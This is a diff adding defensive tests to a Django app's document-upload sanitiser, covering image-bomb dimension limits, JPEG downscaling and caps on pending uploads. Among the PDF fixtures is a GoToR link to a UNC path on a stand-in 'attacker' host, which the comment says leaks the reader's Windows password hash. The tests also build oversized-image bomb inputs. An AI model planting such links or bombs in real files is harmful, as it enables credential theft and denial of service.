@@ -49,6 +49,27 @@ def test_clean_document_refuses_an_image_bomb_with_a_clear_message():
     assert "图片尺寸过大" in exc.value.messages[0]
 
 
+@pytest.mark.parametrize("width, height", [(1, 49_000_000), (7000, 7000), (4097, 4096), (20_001, 1000)])
+def test_an_image_that_would_cost_too_much_to_decode_is_refused_before_it_is_decoded(width, height):
+    """Found by the attack: a 69-byte PNG of 1 × 49,000,000 pixels (under the 50-million cap) took 1 GB and 8 s. A PNG
+    may have at most 4096 × 4096 pixels, and no image is a strip more than 20 times as long as it is wide."""
+    from django.core.exceptions import ValidationError
+
+    with pytest.raises(ValidationError, match="图片尺寸过大"):
+        clean_document(SimpleUploadedFile("strip.png", bomb_png(width, height), content_type="image/png"))
+
+
+def test_a_large_jpeg_is_decoded_at_a_reduced_scale():
+    """A JPEG is decoded by its draft mode at 1/2, 1/4 … of its size, down to no less than 2000 pixels a side."""
+    from PIL import Image
+
+    buffer = io.BytesIO()
+    Image.new("RGB", (7000, 7000), (200, 100, 50)).save(buffer, "JPEG", quality=80)
+    clean = clean_document(SimpleUploadedFile("big.jpg", buffer.getvalue(), content_type="image/jpeg"))
+    with Image.open(clean) as img:
+        assert img.size == (3500, 3500)
+
+
 def test_the_nomination_form_answers_an_image_bomb_with_a_form_error(client, village_a_user, village_a, round_,
                                                                     tmp_path):
     client.force_login(village_a_user)
@@ -278,6 +299,12 @@ ACTIVE = {
                                                     b"/Annots [4 0 R] >>",
                              4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"}),
     "xfa": with_catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>", more={4: b"<< /Length 0 >>\nstream\n\nendstream"}),
+    # Found by the attack: a link to a file on another machine (a UNC path: the reader's Windows password hash
+    # goes with the request).
+    "go_to_remote": build_pdf({1: CATALOG, 2: PAGES, 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2 1] "
+                                                      b"/Annots [4 0 R] >>",
+                               4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] "
+                                  b"/A << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >> >>"}),
 }
 
 
@@ -483,3 +510,40 @@ def test_a_restored_upload_is_written_as_the_app_stores_one(tmp_path):
     write_media_file(base, target, io.BytesIO(b"gAAAAAx"))
     assert target.read_bytes() == b"gAAAAAx" and target.stat().st_mode & 0o777 == 0o600
     assert {d.stat().st_mode & 0o777 for d in (target.parent, target.parent.parent)} == {0o700}
+
+
+def test_a_form_posted_again_and_again_without_its_token_keeps_only_a_few_uploads(client, village_a_user, village_a,
+                                                                                   round_, media_root):
+    """Found by the attack: 20 refused posts, each with a new copy and no token, left 20 files for ever."""
+    from reserve.uploads import PENDING_PER_SESSION
+
+    client.force_login(village_a_user)
+    for _i in range(PENDING_PER_SESSION + 3):
+        response = client.post(reverse("candidates:nomination_new"), form_data(village_a, round_, phone="12"))
+        assert response.status_code == 200
+    kept = [p for p in (media_root / "pending").rglob("*") if p.is_file()]
+    assert len(kept) == PENDING_PER_SESSION
+    # the newest is the one the form offers back
+    token = response.context["pending"]["token"]
+    data = form_data(village_a, round_)
+    del data["id_card_copy"]
+    assert client.post(reverse("candidates:nomination_new"), {**data, "id_card_pending": token}).status_code == 302
+
+
+def test_kept_uploads_older_than_a_day_are_purged(client, village_a_user, village_a, round_, media_root):
+    import datetime
+    import os
+
+    from django.core.management import call_command
+
+    from reserve.uploads import PENDING_MAX_AGE
+
+    client.force_login(village_a_user)
+    client.post(reverse("candidates:nomination_new"), form_data(village_a, round_, phone="12"))
+    (kept,) = [p for p in (media_root / "pending").rglob("*") if p.is_file()]
+    call_command("purge_pending_uploads")
+    assert kept.exists()  # still offered back
+    old = (datetime.datetime.now() - datetime.timedelta(seconds=PENDING_MAX_AGE + 60)).timestamp()
+    os.utime(kept, (old, old))
+    call_command("purge_pending_uploads")
+    assert not kept.exists()
